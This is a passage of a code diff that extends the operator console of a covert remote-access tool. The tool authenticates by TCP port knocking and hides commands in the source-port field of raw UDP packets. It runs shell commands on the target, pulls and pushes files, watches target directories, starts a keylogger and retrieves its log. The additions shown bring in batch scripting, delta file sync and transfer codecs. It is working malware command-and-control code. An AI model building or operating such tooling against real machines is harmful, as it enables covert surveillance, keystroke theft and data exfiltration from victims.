@@ -6,19 +6,34 @@ Performs TCP port knock, then sends commands via UDP raw socket covert channel.
 REQUIRES: Root/Administrator privileges for raw sockets
 Usage: sudo python3 commander.py <target_host>
 """
+import contextlib
+import json
+import logging
 import os
 import socket
 import struct
 import threading
 import time
 import sys
+from collections import deque
 from enum import IntEnum
-from raw_socket_protocol import RawSocketProtocol
+from covert_logging import setup_logging, throttle, parse_level
+from delta_sync import compute_delta, DeltaError
+from raw_socket_protocol import (RawSocketProtocol, ReassemblyTable, PayloadFileWriter, ReceivedFile,
+                                 FrameError, CODECS, DEFAULT_CODEC, get_codec, codec_report)
+
+log = logging.getLogger("commander")
 
 # Configuration
 KNOCK_SEQUENCE = [7000, 8000, 9000]  # TCP knock sequence
 COMMAND_PORT = 8888                 # UDP port for covert channel
 RECEIVED_DIR = "received_files/"   # Directory to save files from client
+KNOCK_TIMEOUT = 2                   # Seconds to connect to a knock port and for the client to acknowledge it
+KNOCK_DELAY = 0                     # Optional pause between knocks, in seconds
+READY_TIMEOUT = 2                   # Seconds to wait for the client's READY before sending anyway
+BATCH_WINDOW = 4                    # Batch mode: commands allowed to await a response at once
+BATCH_RESPONSE_TIMEOUT = 30         # Batch mode: seconds a command may wait for its response
+SYNC_SIGNATURE_TIMEOUT = 60         # sync: seconds to wait for the client's block signatures
 
 class CommandType(IntEnum):
     """Commands encoded in UDP src-port field"""
@@ -32,6 +47,9 @@ class CommandType(IntEnum):
     STOP_WATCH = 0x8901
     KEYLOG_START = 0x9012
     KEYLOG_END = 0x0123
+    FILE_SIGNATURES = 0xBCDE
+    TRANSFER_DELTA = 0xCDEF
+    READY = 0xDEF0
     ACK = 0x9ABC
     ERROR = 0xABCD
 
@@ -41,6 +59,14 @@ COMMANDS_WITH_RESPONSE = frozenset([
     CommandType.RUN_COMMAND,
     CommandType.TRANSFER_FROM_CLIENT,
     CommandType.UNINSTALL,
+    CommandType.FILE_SIGNATURES,
+    CommandType.TRANSFER_DELTA,
+])
+
+# Codes the client sends back in reply to a command
+RESPONSE_CODES = frozenset([
+    CommandType.ACK,
+    CommandType.ERROR,
 ])
 
 
@@ -50,17 +76,26 @@ class Commander:
     from the client
     """
 
-    def __init__(self, target_host, knock_sequence=None):
+    def __init__(self, target_host, knock_sequence=None, codec=None,
+                 knock_timeout=KNOCK_TIMEOUT, knock_delay=KNOCK_DELAY, ready_timeout=READY_TIMEOUT):
         if target_host == "localhost":
             target_host = "127.0.0.1"
         self.target_host = target_host
         self.knock_ports = knock_sequence or KNOCK_SEQUENCE
+        self.knock_timeout = knock_timeout
+        self.knock_delay = knock_delay
+        self.ready_timeout = ready_timeout
         self.command_port = COMMAND_PORT
         self.source_ip = self.get_local_ip()
-        self.protocol = RawSocketProtocol()
+        self.codec = get_codec(codec) if codec is not None else DEFAULT_CODEC
+        self.protocol = RawSocketProtocol(self.codec)
         self._pending_get_filename = None  # filename expected from next TRANSFER_FROM_CLIENT response
         self._watch_thread = None
         self._watch_stop = threading.Event()
+        self._batch_pending = deque()  # batch jobs awaiting a response, in send order
+        self._batch_cond = threading.Condition()
+        self._batch_stop = threading.Event()
+        self._last_request_id = 0  # echoed by the client in the frame header of its reply
         os.makedirs(RECEIVED_DIR, exist_ok=True)
 
     def get_local_ip(self):
@@ -75,34 +110,67 @@ class Commander:
             return "127.0.0.1"
 
     def perform_port_knock(self):
-        """Perform TCP port knock sequence."""
+        """
+        Perform the TCP port knock sequence, in order, without fixed sleeps.
+
+        Each knock waits for the client to close the connection, which it does only
+        after recording the knock, so the next knock cannot overtake it. After the last
+        knock the commander waits for the client's READY packet and falls back to
+        sending anyway once ready_timeout passes.
+        """
         print(f"Target:   {self.target_host}")
         print(f"Sequence: {self.knock_ports}")
+        print(f"Codec:    {self.codec.name} ({self.codec.capacity} bytes/packet)")
         print()
 
+        start = time.time()
         successful_knocks = 0
-        for port in self.knock_ports:
+        for i, port in enumerate(self.knock_ports):
+            last = i == len(self.knock_ports) - 1
+            if last:
+                # Listen before the final knock so READY cannot arrive unseen
+                self.protocol.prepare_recv_socket()
             try:
-                sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
-                sock.settimeout(2)
                 print(f"Knocking on TCP port {port}...", end="\n", flush=True)
-                sock.connect((self.target_host, port))
-                sock.close()
+                with socket.create_connection((self.target_host, port), timeout=self.knock_timeout) as sock:
+                    if last:
+                        # Final knock carries the codec id for this session
+                        sock.sendall(bytes([self.codec.codec_id]))
+                    self._wait_for_knock_close(sock)
                 successful_knocks += 1
             except Exception as e:
                 print(f"({e})")
-            time.sleep(0.5)
+            if self.knock_delay and not last:
+                time.sleep(self.knock_delay)
 
-        if successful_knocks == len(self.knock_ports):
-            print("\nPort knock sequence complete!")
-            print("Authorization granted for covert channel")
-            time.sleep(1)
-            return True
-        else:
+        if successful_knocks != len(self.knock_ports):
+            self.protocol.discard_recv_socket()
             print(f"\nKnock failed — only {successful_knocks}/{len(self.knock_ports)} ports accepted.")
             print(" Wrong sequence or client not running.")
             return False
 
+        print("\nPort knock sequence complete!")
+        if self.ready_timeout <= 0:
+            self.protocol.discard_recv_socket()
+            print("Authorization granted for covert channel")
+            return True
+        response = self.protocol.receive_data(self.target_host, self.command_port,
+                                              timeout=self.ready_timeout)
+        elapsed = (time.time() - start) * 1000
+        if response and response['type'] == int(CommandType.READY):
+            print(f"Authorization granted for covert channel ({elapsed:.0f} ms)")
+        else:
+            print(f"No readiness ack within {self.ready_timeout:g} s; continuing anyway")
+        return True
+
+    def _wait_for_knock_close(self, sock):
+        """Block until the client closes the knock connection (its per-knock ack) or the knock timeout."""
+        try:
+            while sock.recv(64):
+                pass
+        except OSError:
+            pass  # timed out or reset; either way the knock has been delivered
+
     def send_covert_command(self, command_type, payload=b'', context=None):
         """
         Send a command via the raw socket covert channel.
@@ -136,7 +204,7 @@ class Commander:
 
         if needs_response:
             print("Waiting for response...")
-            response = self.receive_response()
+            response = self.receive_response(context=context)
             if response:
                 self.display_response(response, context=context)
             else:
@@ -144,30 +212,38 @@ class Commander:
 
         return success
 
-    def receive_response(self, timeout=5):
-        """Receive a response from the client via the covert channel."""
+    def receive_response(self, timeout=5, context=None):
+        """
+        Receive a response from the client via the covert channel.
+        File responses (context with a filename) are streamed straight into RECEIVED_DIR.
+        """
+        sink_factory = None
+        if context and context.get('filename'):
+            sink_factory = self._file_sink_factory(context['filename'])
+
         response = self.protocol.receive_data(
             self.target_host,
             self.command_port,
-            timeout
+            timeout,
+            sink_factory=sink_factory
         )
         return response  # may be None on timeout
 
+    def _file_sink_factory(self, filename):
+        """Sink factory that writes an ACK payload to RECEIVED_DIR/<filename>."""
+        def factory(src_ip, command, payload_len):
+            if command != CommandType.ACK:
+                return None
+            return PayloadFileWriter(RECEIVED_DIR, payload_len, filename)
+        return factory
+
     def display_response(self, response, context=None):
         if response['type'] == int(CommandType.ACK):
-            # File transfer response save to disk
-            if context and context.get('filename'):
-                filename = os.path.basename(context['filename'])
-                save_path = os.path.join(RECEIVED_DIR, filename)
-                try:
-                    with open(save_path, 'wb') as f:
-                        f.write(response['payload'])
-                    print(f"FILE RECEIVED: {filename}")
-                    print(f"  Saved to : {save_path}")
-                    print(f"  Size     : {len(response['payload'])} bytes")
-                except Exception as e:
-                    print(f"FILE RECEIVE ERROR:")
-                    print(f"  Could not save {save_path}: {e}")
+            if response.get('path'):
+                # File transfer response, already written to disk during reassembly
+                print(f"FILE RECEIVED: {os.path.basename(response['path'])}")
+                print(f"  Saved to : {response['path']}")
+                print(f"  Size     : {response['size']} bytes")
             else:
                 # Plain command output (RUN_COMMAND, UNINSTALL, etc.)
                 print("COMMAND OUTPUT:")
@@ -198,10 +274,12 @@ class Commander:
         print("  disconnect            - Disconnect from client (0x1234)")
         print("  uninstall             - Uninstall from client (0x2345)")
         print("  send <file>           - Transfer file to client (0x3456)")
+        print("  sync <file>           - Send only the changes to the client's copy (0xBCDE/0xCDEF)")
         print("  get <file>            - Transfer file from client (0x4567)")
         print("  run <command>         - Run command on client (0x5678)")
         print("  watch <dir>           - Watch directory on client (0x6789)")
         print("  keylog                - Start keylogger (0x9012)")
+        print("  codecs                - Show chunk codec capacity/benchmark report")
         print("  exit                  - Exit commander")
         print()
 
@@ -238,18 +316,17 @@ class Commander:
                         print("Usage: send <filepath>")
                         continue
                     try:
-                        with open(args, 'rb') as f:
-                            filedata = f.read()
-                        filename       = os.path.basename(args)
-                        filename_bytes = filename.encode('utf-8')
-                        filename_len   = len(filename_bytes)
-                        print(f"Transferring: {filename} ({len(filedata)} bytes)")
-                        # Payload: filename_length (2 bytes) | filename | filedata
-                        payload = struct.pack('!H', filename_len) + filename_bytes + filedata
+                        payload = self.build_send_payload(args)
                         self.send_covert_command(CommandType.TRANSFER_TO_CLIENT, payload)
                     except Exception as e:
                         print(f"Error reading file: {e}")
 
+                elif cmd == 'sync':
+                    if not args:
+                        print("Usage: sync <filepath>")
+                        continue
+                    self.sync_file(args)
+
                 elif cmd == 'get':
                     if not args:
                         print("Usage: get <filepath>")
@@ -282,6 +359,9 @@ class Commander:
                 elif cmd == 'keylog':
                     self.send_covert_command(CommandType.KEYLOG_START)
                     self._keylog_mode()
+
+                elif cmd == 'codecs':
+                    self.print_codec_report()
                 else:
                     print(f"Unknown command: {cmd}")
 
@@ -298,6 +378,403 @@ class Commander:
             except Exception as e:
                 print(f"Error: {e}")
 
+    def build_send_payload(self, filepath):
+        """Read a local file into a TRANSFER_TO_CLIENT payload."""
+        with open(filepath, 'rb') as f:
+            filedata = f.read()
+        filename       = os.path.basename(filepath)
+        filename_bytes = filename.encode('utf-8')
+        filename_len   = len(filename_bytes)
+        print(f"Transferring: {filename} ({len(filedata)} bytes)")
+        # Payload: filename_length (2 bytes) | filename | filedata
+        return struct.pack('!H', filename_len) + filename_bytes + filedata
+
+    def sync_file(self, filepath):
+        """Fetch the client's block signatures for filepath, then send only a delta against them."""
+        try:
+            with open(filepath, 'rb') as f:
+                filedata = f.read()
+        except OSError as e:
+            print(f"Error reading file: {e}")
+            return False
+
+        filename = os.path.basename(filepath)
+        print(f"\nRequesting block signatures for {filename}")
+        self.protocol.prepare_recv_socket()
+        time.sleep(0.1)
+        if not self.protocol.send_packet(self.source_ip, self.target_host, self.command_port,
+                                         CommandType.FILE_SIGNATURES, filename.encode('utf-8')):
+            print("Failed to send packet")
+            return False
+
+        response = self.receive_response(timeout=SYNC_SIGNATURE_TIMEOUT)
+        if not response:
+            print("No signatures received (timeout)")
+            return False
+        if response['type'] != int(CommandType.ACK):
+            self.display_response(response)
+            return False
+
+        try:
+            payload = self.build_delta_payload(filename, filedata, response['payload'])
+        except DeltaError as e:
+            print(f"Bad signatures from client: {e}")
+            return False
+        return self.send_covert_command(CommandType.TRANSFER_DELTA, payload)
+
+    def build_delta_payload(self, filename, filedata, sig):
+        """TRANSFER_DELTA payload turning the client's copy (described by sig) into filedata."""
+        delta, literal, copied = compute_delta(filedata, sig)
+        print(f"Delta for {filename}: {len(delta)} bytes for a {len(filedata)} byte file "
+              f"({copied} bytes reused, {literal} bytes literal, {len(sig)} bytes of signatures)")
+        filename_bytes = filename.encode('utf-8')
+        # Payload: filename_length (2 bytes) | filename | delta
+        return struct.pack('!H', len(filename_bytes)) + filename_bytes + delta
+
+    def print_codec_report(self):
+        """Print capacity and local encode/decode speed for every chunk codec."""
+        print(f"{'id':>2}  {'codec':<10} {'B/pkt':>5} {'wire':>5} {'eff':>5} "
+              f"{'max xfer':>9} {'chan B/s':>8} {'enc MB/s':>8} {'dec MB/s':>8}")
+        for row in codec_report():
+            marker = "*" if row['id'] == self.codec.codec_id else " "
+            print(f"{row['id']:>2}{marker} {row['name']:<10} {row['bytes_per_packet']:>5} "
+                  f"{row['wire_bytes']:>5} {row['efficiency']:>5.0%} "
+                  f"{row['max_transfer']:>9} {row['channel_bps']:>8.0f} "
+                  f"{row['encode_mbps']:>8.2f} {row['decode_mbps']:>8.2f}")
+            print(f"      {row['description']}")
+        print("  * active codec (select with --codec <name> at startup)")
+
+    # ------------------------------------------------------------------ #
+    #  Batch mode                                                          #
+    # ------------------------------------------------------------------ #
+
+    def batch_session(self, lines, results, window=BATCH_WINDOW, timeout=BATCH_RESPONSE_TIMEOUT):
+        """
+        Run commands from a script without prompting and write one JSON result per command.
+
+        Commands are sent back to back. Up to `window` of them may await a response at
+        once; a single background receiver matches responses to commands in send order,
+        since the client answers commands in the order they arrive.
+        Returns the number of commands that did not succeed.
+        """
+        self._batch_results = results
+        self._batch_failures = 0
+        self._batch_timeout = timeout
+
+        if not self.perform_port_knock():
+            self._write_batch_result({'line': 0, 'command': 'knock', 'args': '',
+                                      'status': 'error', 'error': 'port knock failed'})
+            return 1
+
+        sock = self.protocol._open_recv_socket()
+        sock.settimeout(0.5)
+        self._batch_stop.clear()
+        receiver = threading.Thread(target=self._batch_receiver_loop, args=(sock,), daemon=True)
+        receiver.start()
+
+        try:
+            for lineno, line in enumerate(lines, 1):
+                line = line.strip()
+                if not line or line.startswith('#'):
+                    continue
+
+                parts = line.split(maxsplit=1)
+                cmd  = parts[0].lower()
+                args = parts[1] if len(parts) > 1 else ''
+                job = {'line': lineno, 'command': cmd, 'args': args}
+
+                if cmd == 'exit':
+                    break
+                if not self._run_batch_command(job, window):
+                    break
+
+            self._wait_for_batch(0)
+        finally:
+            self._batch_stop.set()
+            receiver.join(timeout=2)
+            sock.close()
+
+        return self._batch_failures
+
+    def _run_batch_command(self, job, window):
+        """Send one batch command. Returns False if the batch should stop after it."""
+        cmd, args = job['command'], job['args']
+        context = None
+
+        if cmd == 'knock':
+            # Re-knocking mid-stream would confuse pending responses
+            self._wait_for_batch(0)
+            job['start'] = time.time()
+            ok = self.perform_port_knock()
+            self._finish_batch_job(job, 'ok' if ok else 'error', error=None if ok else 'port knock failed')
+            return True
+
+        if cmd == 'disconnect':
+            command_type, payload = CommandType.DISCONNECT, b''
+        elif cmd == 'uninstall':
+            command_type, payload = CommandType.UNINSTALL, b''
+        elif cmd == 'send' and args:
+            command_type = CommandType.TRANSFER_TO_CLIENT
+            try:
+                payload = self.build_send_payload(args)
+            except OSError as e:
+                job['start'] = time.time()
+                self._finish_batch_job(job, 'error', error=str(e))
+                return True
+        elif cmd == 'sync' and args:
+            command_type = CommandType.TRANSFER_DELTA
+            try:
+                payload = self._batch_delta_payload(args)
+            except (OSError, DeltaError) as e:
+                job['start'] = time.time()
+                self._finish_batch_job(job, 'error', error=str(e))
+                return True
+        elif cmd == 'get' and args:
+            command_type, payload = CommandType.TRANSFER_FROM_CLIENT, args.encode('utf-8')
+            context = {'filename': args}
+        elif cmd == 'run' and args:
+            command_type, payload = CommandType.RUN_COMMAND, args.encode('utf-8')
+        else:
+            job['start'] = time.time()
+            error = (f"'{cmd}' is interactive only" if cmd in ('watch', 'keylog')
+                     else f"invalid command: {cmd} {args}".strip())
+            self._finish_batch_job(job, 'error', error=error)
+            return True
+
+        job['context'] = context
+        job['sent_bytes'] = len(payload)
+        needs_response = command_type in COMMANDS_WITH_RESPONSE
+
+        # Keep at most `window` commands outstanding
+        job['request_id'] = self._next_request_id()
+        if needs_response:
+            self._wait_for_batch(window - 1)
+            with self._batch_cond:
+                job['start'] = time.time()
+                job['deadline'] = None
+                self._batch_pending.append(job)
+        else:
+            job['start'] = time.time()
+
+        ok = self.protocol.send_packet(
+            self.source_ip,
+            self.target_host,
+            self.command_port,
+            command_type,
+            payload,
+            request_id=job['request_id']
+        )
+
+        if needs_response:
+            with self._batch_cond:
+                if not ok:
+                    self._batch_pending.remove(job)
+                    self._finish_batch_job(job, 'error', error='send failed')
+                elif job['deadline'] is None:
+                    job['deadline'] = time.time() + self._batch_timeout
+        else:
+            self._finish_batch_job(job, 'ok' if ok else 'error',
+                                   bytes=len(payload), error=None if ok else 'send failed')
+
+        return cmd != 'disconnect'
+
+    def _batch_delta_payload(self, filepath):
+        """
+        Fetch signatures through the batch receiver and build a TRANSFER_DELTA payload.
+        Waits for all outstanding commands first so the signatures are the next response.
+        """
+        with open(filepath, 'rb') as f:
+            filedata = f.read()
+        filename = os.path.basename(filepath)
+
+        self._wait_for_batch(0)
+        request = {'reply': None, 'start': time.time(), 'deadline': None,
+                   'request_id': self._next_request_id()}
+        with self._batch_cond:
+            self._batch_pending.append(request)
+        ok = self.protocol.send_packet(self.source_ip, self.target_host, self.command_port,
+                                       CommandType.FILE_SIGNATURES, filename.encode('utf-8'),
+                                       request_id=request['request_id'])
+        with self._batch_cond:
+            if not ok:
+                self._batch_pending.remove(request)
+                raise OSError("send failed")
+            if request['deadline'] is None:
+                request['deadline'] = time.time() + max(self._batch_timeout, SYNC_SIGNATURE_TIMEOUT)
+        self._wait_for_batch(0)
+
+        reply = request['reply']
+        if reply['status'] != 'ok':
+            raise OSError(f"signatures: {reply['error']}")
+        return self.build_delta_payload(filename, filedata, reply['payload'])
+
+    def _next_request_id(self):
+        """Next 16-bit request id; 0 is reserved for unsolicited messages."""
+        self._last_request_id = self._last_request_id % 0xFFFF + 1
+        return self._last_request_id
+
+    def _wait_for_batch(self, limit):
+        """Block until at most `limit` batch commands await a response, timing out stale ones."""
+        with self._batch_cond:
+            while len(self._batch_pending) > limit:
+                job = self._batch_pending[0]
+                if job['deadline'] is not None and time.time() > job['deadline']:
+                    self._batch_pending.popleft()
+                    self._finish_batch_job(job, 'timeout', error='no response')
+                    self._restart_batch_deadline()
+                    continue
+                self._batch_cond.wait(timeout=0.2)
+
+    def _restart_batch_deadline(self):
+        """The client answers in order, so the next command's clock starts when the previous one ends."""
+        if self._batch_pending and self._batch_pending[0]['deadline'] is not None:
+            self._batch_pending[0]['deadline'] = max(
+                self._batch_pending[0]['deadline'], time.time() + self._batch_timeout)
+
+    def _batch_sink(self, src_ip, command, payload_len):
+        """
+        Stream a response straight to disk when the command awaiting it is a get.
+        The request id is not known yet when the sink is made, so the sink is tagged
+        with the job it was made for and checked against the reply before commit.
+        """
+        with self._batch_cond:
+            job = self._batch_pending[0] if self._batch_pending else None
+        if job is None or not job.get('context'):
+            return None
+        sink = self._file_sink_factory(job['context']['filename'])(src_ip, command, payload_len)
+        if sink is not None:
+            sink.request_id = job['request_id']
+        return sink
+
+    def _batch_sink_matches(self, ctx):
+        """True if ctx was streamed into the sink its command expects: a get's file, or memory."""
+        with self._batch_cond:
+            job = self._find_batch_job(ctx.request_id)
+            expected = job['request_id'] if job is not None and job.get('context') else None
+        return getattr(ctx.sink, 'request_id', None) == expected
+
+    def _batch_receiver_loop(self, sock):
+        """Background thread: reassemble responses and hand them to pending batch jobs in order."""
+        transfers = ReassemblyTable(sink_factory=self._batch_sink)
+        try:
+            while not self._batch_stop.is_set():
+                try:
+                    packet, addr = sock.recvfrom(65535)
+                except socket.timeout:
+                    transfers.expire()
+                    continue
+
+                if addr[0] != self.target_host:
+                    continue
+                parsed = self.protocol.parse_udp_packet(packet)
+                if not parsed or parsed['dst_port'] != self.command_port:
+                    continue
+                if parsed['command'] not in RESPONSE_CODES:
+                    continue  # our own command packets on loopback
+
+                try:
+                    ctx = transfers.feed(addr[0], parsed)
+                except FrameError as e:
+                    failed = transfers.get(addr[0])
+                    self._complete_batch_job(failed.request_id if failed else None, 'error',
+                                             error=f"corrupt response: {e}")
+                    continue
+                if ctx is None:
+                    continue
+                self._extend_batch_deadline(ctx.request_id)
+                if not ctx.is_complete():
+                    continue
+
+                transfers.pop(addr[0])
+                if not self._batch_job_pending(ctx.request_id):
+                    # Late reply to a command that already timed out; never hand it to another job
+                    log.warning("Batch: dropping reply to request %s with no pending command",
+                                ctx.request_id)
+                    ctx.discard()
+                    continue
+                if not self._batch_sink_matches(ctx):
+                    # An earlier reply was lost, so this one went to the wrong sink
+                    # (e.g. a run's output into a get's file); never commit it there
+                    ctx.discard()
+                    self._complete_batch_job(ctx.request_id, 'error',
+                                             error="reply was received into another command's sink; not saved")
+                    continue
+
+                try:
+                    result = ctx.finish()
+                except (OSError, ValueError) as e:
+                    self._complete_batch_job(ctx.request_id, 'error', error=str(e))
+                    continue
+
+                if isinstance(result, ReceivedFile):
+                    self._complete_batch_job(ctx.request_id, 'ok', bytes=result.size, output_path=result.path)
+                elif ctx.command == int(CommandType.ERROR):
+                    self._complete_batch_job(ctx.request_id, 'error', bytes=len(result),
+                                             error=result.decode('utf-8', errors='replace'))
+                else:
+                    self._complete_batch_job(ctx.request_id, 'ok', bytes=len(result), payload=result,
+                                             output=result.decode('utf-8', errors='replace'))
+        finally:
+            transfers.clear()
+
+    def _find_batch_job(self, request_id):
+        """Pending job with request_id; the oldest one if the id is unknown (header not yet seen)."""
+        if request_id is None:
+            return self._batch_pending[0] if self._batch_pending else None
+        return next((job for job in self._batch_pending if job.get('request_id') == request_id), None)
+
+    def _batch_job_pending(self, request_id):
+        with self._batch_cond:
+            return self._find_batch_job(request_id) is not None
+
+    def _extend_batch_deadline(self, request_id):
+        """A reply still arriving keeps its command from timing out."""
+        with self._batch_cond:
+            job = self._find_batch_job(request_id)
+            if job is not None and job['deadline'] is not None:
+                job['deadline'] = max(job['deadline'], time.time() + self._batch_timeout)
+
+    def _complete_batch_job(self, request_id, status, **fields):
+        with self._batch_cond:
+            job = self._find_batch_job(request_id)
+            if job is None:
+                log.warning("Batch: dropping reply to request %s with no pending command (%s)",
+                            request_id, status)
+                return
+            # The client answers in order, so commands queued ahead of this one lost their replies
+            while self._batch_pending[0] is not job:
+                self._finish_batch_job(self._batch_pending.popleft(), 'error', error='no response')
+            self._batch_pending.popleft()
+            self._finish_batch_job(job, status, **fields)
+            self._restart_batch_deadline()
+            self._batch_cond.notify_all()
+
+    def _finish_batch_job(self, job, status, **fields):
+        payload = fields.pop('payload', None)
+        if 'reply' in job:
+            # Internal request made on behalf of another command (sync's signatures)
+            job['reply'] = {'status': status, 'payload': payload, 'error': fields.get('error')}
+            return
+
+        result = {
+            'line': job['line'],
+            'command': job['command'],
+            'args': job['args'],
+            'status': status,
+            'bytes': fields.pop('bytes', job.get('sent_bytes', 0)),
+            'latency_ms': round((time.time() - job['start']) * 1000, 1),
+            'output_path': fields.pop('output_path', None),
+        }
+        result.update((k, v) for k, v in fields.items() if v is not None)
+        self._write_batch_result(result)
+
+    def _write_batch_result(self, result):
+        with self._batch_cond:
+            if result['status'] != 'ok':
+                self._batch_failures += 1
+            self._batch_results.write(json.dumps(result) + "\n")
+            self._batch_results.flush()
+
     def _keylog_mode(self):
         print("KEYLOG MODE ACTIVE")
         print("Type 'stopkeylog' to stop.")
@@ -320,9 +797,10 @@ class Commander:
                     )
 
                     print("Waiting for keylog file...")
-                    response = self.receive_response(timeout=10)  # keylog may be large
+                    context = {"filename": "keylogger.txt"}
+                    response = self.receive_response(timeout=10, context=context)  # keylog may be large
                     if response:
-                        self.display_response(response, context={"filename": "keylogger.txt"})
+                        self.display_response(response, context=context)
                     else:
                         print("No keylog file received (timeout)")
 
@@ -419,18 +897,18 @@ class Commander:
             sock.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
             sock.settimeout(1.0)
         except Exception as e:
-            print(f"Watch listener: could not open socket: {e}")
+            log.error("Watch listener: could not open socket: %s", e)
             return
 
-        chunks = {}
-        expected_total = None
-        current_cmd = None
+        # Pushed files are streamed straight into RECEIVED_DIR as they arrive
+        transfers = ReassemblyTable(sink_factory=self._watch_sink)
 
         try:
             while not self._watch_stop.is_set():
                 try:
                     packet, addr = sock.recvfrom(65535)
                 except socket.timeout:
+                    transfers.expire()
                     continue
 
                 if addr[0] != self.target_host:
@@ -443,60 +921,45 @@ class Commander:
                     # print(f"{parsed['dst_port']} {self.command_port}")
                     continue
 
-                seq = parsed['seq']
-                data = parsed['data']
-                total = parsed['total']
-                cmd = parsed['command']
-
-                # New transfer starting
-                if expected_total is None:
-                    expected_total = total
-                    current_cmd = cmd
-                    chunks = {}
-
-                chunks[seq] = data
-
-                if expected_total and len(chunks) >= expected_total:
-                    # Verify no gaps
-                    expected_seqs = set(range(1, expected_total + 1))
-                    if set(chunks.keys()) != expected_seqs:
-                        missing = expected_seqs - set(chunks.keys())
-                        print(f"\nWatch listener: missing seqs {missing} — dropping")
-                        chunks        = {}
-                        expected_total = None
-                        current_cmd   = None
-                        continue
-
-                    # Reassemble
-                    raw = b''.join(chunks[i] for i in sorted(chunks))
-                    payload = raw[:-1] if (expected_total * 2) > len(raw) else raw
-
-                    # Reset state for next transfer
-                    chunks = {}
-                    expected_total = None
+                try:
+                    ctx = transfers.feed(addr[0], parsed)
+                except FrameError as e:
+                    log.warning("Watch: dropped corrupt push: %s", e,
+                                extra=throttle("watch corrupt", "Watch: dropped {count:,} more corrupt pushes in last {interval:g} s"))
+                    continue
+                if ctx is None or not ctx.is_complete():
+                    continue
 
-                    if current_cmd == int(CommandType.FILE_WATCH):
-                        self._handle_watch_file(payload)
-                    elif current_cmd == int(CommandType.FILE_DELETE):
-                        self._handle_watch_delete(payload)
+                # Reset state for next transfer
+                transfers.pop(addr[0])
 
-                    current_cmd = None
+                if ctx.command == int(CommandType.FILE_WATCH):
+                    try:
+                        self._handle_watch_file(ctx.finish())
+                    except Exception as e:
+                        log.error("Watch: could not save file: %s", e)
+                elif ctx.command == int(CommandType.FILE_DELETE):
+                    try:
+                        self._handle_watch_delete(ctx.finish())
+                    except FrameError as e:
+                        log.warning("Watch: dropped corrupt delete notice: %s", e)
+                else:
+                    ctx.discard()
 
         finally:
+            transfers.clear()
             sock.close()
 
-    def _handle_watch_file(self, payload):
-        """Save a file pushed by the client into received_files/."""
-        try:
-            filename_len = struct.unpack('!H', payload[:2])[0]
-            filename = payload[2:2 + filename_len].decode('utf-8')
-            filedata = payload[2 + filename_len:]
-            save_path = os.path.join(RECEIVED_DIR, filename)
-            with open(save_path, 'wb') as f:
-                f.write(filedata)
-            print(f"\nWatch: received '{filename}' ({len(filedata)} bytes) → {save_path}")
-        except Exception as e:
-            print(f"\nWatch: could not save file: {e}")
+    def _watch_sink(self, src_ip, command, payload_len):
+        """Stream FILE_WATCH pushes (`!H name_len | name | data`) into RECEIVED_DIR."""
+        if command != CommandType.FILE_WATCH:
+            return None
+        return PayloadFileWriter(RECEIVED_DIR, payload_len)
+
+    def _handle_watch_file(self, received):
+        """Report a file pushed by the client and saved into received_files/."""
+        log.info("Watch: received '%s' (%d bytes) → %s",
+                 os.path.basename(received.path), received.size, received.path)
 
     import os
 
@@ -508,45 +971,104 @@ class Commander:
                 return
             del_path = os.path.abspath(os.path.join(RECEIVED_DIR, filename))
             if not del_path.startswith(os.path.abspath(RECEIVED_DIR)):
-                print(f"\nWatch: Blocked unauthorized delete attempt: {filename}")
+                log.warning("Watch: Blocked unauthorized delete attempt: %s", filename)
                 return
             try:
                 os.remove(del_path)
-                print(f"\nWatch: deleted '{filename}'")
+                log.info("Watch: deleted '%s'", filename)
             except FileNotFoundError:
-                print(f"\nWatch: '{filename}' not found, ignoring.")
+                log.info("Watch: '%s' not found, ignoring.", filename)
 
         except Exception as e:
-            print(f"\nWatch: Error during deletion: {e}")
+            log.error("Watch: Error during deletion: %s", e)
+
+def pop_flag(args, flag):
+    """Remove `flag <value>` from args and return the value, or None if absent."""
+    if flag not in args:
+        return None
+    i = args.index(flag)
+    if i + 1 >= len(args):
+        print(f"{flag} needs a value")
+        sys.exit(1)
+    value = args[i + 1]
+    del args[i:i + 2]
+    return value
+
 
 def main():
-    print("Commander program started...")
+    results = sys.stdout
+    args = sys.argv[1:]
+    codec = pop_flag(args, '--codec') or DEFAULT_CODEC.name
+    batch = pop_flag(args, '--batch')
+    window = pop_flag(args, '--window')
+    level_name = pop_flag(args, '--log-level')
+    knock_timing = {name: pop_flag(args, f"--{name.replace('_', '-')}")
+                    for name in ('knock_timeout', 'knock_delay', 'ready_timeout')}
+
+    # In batch mode stdout carries JSON results only; progress goes to stderr
+    with contextlib.redirect_stdout(sys.stderr if batch else sys.stdout):
+        level = parse_level(level_name) if level_name else logging.INFO
+        if level is None:
+            print("--log-level must be one of: DEBUG, INFO, WARNING, ERROR")
+            sys.exit(1)
+        setup_logging("commander", level, stream=sys.stdout)
 
-    if len(sys.argv) < 2:
-        print("Usage: sudo python3 commander.py <target_host> [knock_port1 knock_port2 knock_port3]")
-        print("\nExamples:")
-        print("  sudo python3 commander.py 192.168.1.100")
-        print("  sudo python3 commander.py 192.168.1.100 1111 2222 3333")
-        sys.exit(1)
+        print("Commander program started...")
+
+        if codec not in CODECS:
+            print(f"--codec must be one of: {', '.join(CODECS)}")
+            sys.exit(1)
+
+        if len(args) < 1:
+            print("Usage: sudo python3 commander.py <target_host> [knock_port1 knock_port2 knock_port3] "
+                  "[--codec <name>] [--batch <script|-> [--window N]] [--log-level LEVEL] "
+                  "[--knock-timeout S] [--knock-delay S] [--ready-timeout S]")
+            print("\nExamples:")
+            print("  sudo python3 commander.py 192.168.1.100")
+            print("  sudo python3 commander.py 192.168.1.100 1111 2222 3333")
+            print("  sudo python3 commander.py 192.168.1.100 --codec payload")
+            print("  sudo python3 commander.py 192.168.1.100 --batch regression.txt > results.jsonl")
+            print(f"\nCodecs: {', '.join(CODECS)}")
+            sys.exit(1)
+
+        target_host = args[0]
+
+        if len(args) >= 4:
+            try:
+                knock_sequence = [int(args[1]), int(args[2]), int(args[3])]
+            except ValueError:
+                print("Knock ports must be integers")
+                sys.exit(1)
+        else:
+            knock_sequence = KNOCK_SEQUENCE  # default [7000, 8000, 9000]
 
-    target_host = sys.argv[1]
+        try:
+            window = int(window) if window else BATCH_WINDOW
+        except ValueError:
+            print("--window must be an integer")
+            sys.exit(1)
 
-    if len(sys.argv) >= 5:
         try:
-            knock_sequence = [int(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4])]
+            knock_timing = {name: float(value) for name, value in knock_timing.items() if value is not None}
